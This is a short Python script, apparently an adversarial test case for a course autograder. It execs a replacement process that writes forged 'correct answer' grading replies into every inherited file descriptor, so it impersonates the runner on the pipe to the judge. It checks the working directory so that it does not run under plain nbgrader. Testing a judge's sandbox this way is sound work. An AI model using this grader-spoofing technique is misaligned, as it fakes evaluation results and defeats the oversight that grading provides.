"""Replaces its process by another program, which has the pipe to the judge open.

Would answer in the runner's place: a program of the attacker's own.

Plain nbgrader: not run there: it aims at our judge, which stands outside.
"""

# %%
import os
import sys

code = """
import os, struct, time
from coursekit.check import codec
ends = []
for number in range(3, 64):
    try:
        os.fstat(number)
        ends.append(number)
    except OSError:
        pass
reply = codec.encode({"outputs": [], "count": 1, "missing": [], "kind": "number", "type": "int", "value": 3})
while True:
    for end in ends:
        os.write(end, struct.pack("!i", len(reply)) + reply)
        time.sleep(0.05)
"""
for number in range(3, 64):
    try:
        os.set_inheritable(number, True)
    except OSError:
        pass
if "autograded" not in os.getcwd():
    os.execv(sys.executable, [sys.executable, "-c", code])
